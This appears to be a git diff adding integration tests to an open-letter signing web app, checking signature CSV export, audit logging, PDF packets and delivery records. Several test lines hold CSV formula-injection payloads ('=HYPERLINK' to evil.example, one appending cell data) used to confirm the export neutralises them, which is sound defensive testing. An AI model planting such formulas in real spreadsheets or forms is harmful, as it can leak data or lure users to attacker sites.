@@ -6,8 +6,8 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { parseHtml } from "~/tests/helpers/html-page";
 import { startAppServer } from "~/tests/helpers/app-server";
 import type { AppServer } from "~/tests/helpers/app-server";
-import { application, post, signInOverHttp } from "~/tests/helpers/http-session";
-import { startSmtpSink } from "~/tests/helpers/smtp-sink";
+import { application, csrfTokenOf, formStampOf, post, signInOverHttp } from "~/tests/helpers/http-session";
+import { findLink, startSmtpSink } from "~/tests/helpers/smtp-sink";
 import type { SmtpSink } from "~/tests/helpers/smtp-sink";
 
 describe("privacy and exports over HTTP", () => {
@@ -60,5 +60,60 @@ describe("privacy and exports over HTTP", () => {
     expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&B2,""Open"")"`);
     const row = (parse(csv, { columns: true }) as Record<string, string>[]).find((r) => r.email === "formula@example.org");
     expect(row?.name).toBe(`'${hyperlink}`);
+  });
+
+  it("exports an open letter's signatures as inert CSV, audited, and prints its packet as PDF", async () => {
+    const hyperlink = '=HYPERLINK("https://evil.example/","Open")';
+    const signed = await post(app, "/letters/aamc", {
+      rendered: await formStampOf(app, "/letters/aamc"),
+      name: hyperlink,
+      email: "formula-signer@example.org",
+      city: "Austin",
+      zip: "78701",
+      signerRole: "physician",
+      showName: "on",
+    });
+    expect(signed.headers.get("location")).toBe("/letters/aamc/check-email");
+    const mail = await sink.waitFor((m) => m.to.includes("formula-signer@example.org"));
+    const token = new URL(findLink(mail, `${app.url}/letters/confirm?token=`)).searchParams.get("token")!;
+    expect((await post(app, "/letters/confirm", { token })).headers.get("location")).toBe("/letters/aamc/thanks");
+
+    const staff = await signInOverHttp(app, sink, "admin@example.org");
+    const res = await fetch(`${app.url}/admin/open-letters/aamc/signatures.csv?state=TX&role=physician`, { headers: { cookie: staff } });
+    expect(res.status).toBe(200);
+    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="aamc-signatures-/);
+    const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
+    expect(rows).toEqual([expect.objectContaining({ name: `'${hyperlink}`, email: "formula-signer@example.org", city: "Austin", state: "TX", credential: "physician", status: "confirmed" })]);
+    const audit = parseHtml(await (await fetch(`${app.url}/admin/audit?action=open-letter.export`, { headers: { cookie: staff } })).text()).text;
+    expect(audit).toContain("admin@example.org");
+    expect(audit).toContain("aamc");
+
+    const pdf = await fetch(`${app.url}/admin/open-letters/aamc/packet.pdf`, { headers: { cookie: staff } });
+    expect(pdf.status).toBe(200);
+    expect(pdf.headers.get("content-type")).toBe("application/pdf");
+    expect(
+      Buffer.from(await pdf.arrayBuffer())
+        .subarray(0, 5)
+        .toString(),
+    ).toBe("%PDF-");
+    const packet = parseHtml(await (await fetch(`${app.url}/admin/open-letters/aamc/packet`, { headers: { cookie: staff } })).text()).text;
+    expect(packet).toContain("1 person signed this letter");
+    expect(packet).toContain("1 physician");
+    expect(packet).not.toContain("formula-signer@example.org");
+  });
+
+  it("records an open letter's delivery; the public page then says so, and offers share previews", async () => {
+    const staff = await signInOverHttp(app, sink, "admin@example.org");
+    const csrf = await csrfTokenOf(app, "/admin/open-letters/ecfmg", staff);
+    const missing = await post(app, "/admin/open-letters/ecfmg", { csrf, recipient: "", deliveredOn: "2026-13-45", method: "email" }, staff);
+    expect(missing.status).toBe(400);
+    const delivered = await post(app, "/admin/open-letters/ecfmg", { csrf, recipient: "the ECFMG", deliveredOn: "2026-03-12", method: "email", note: "" }, staff);
+    expect(delivered.status).toBe(302);
+    const publicPage = await fetch(`${app.url}/letters/ecfmg`);
+    const html = await publicPage.text();
+    expect(parseHtml(html).text).toContain("Delivered to the ECFMG on March 12, 2026.");
+    expect(parseHtml(html).text).toContain("Be among the first to sign.");
+    expect(html).toContain(`<meta property="og:image" content="${app.url}/share-card.png"/>`);
+    expect(html).toContain('<meta name="twitter:card" content="summary_large_image"/>');
   });
 });
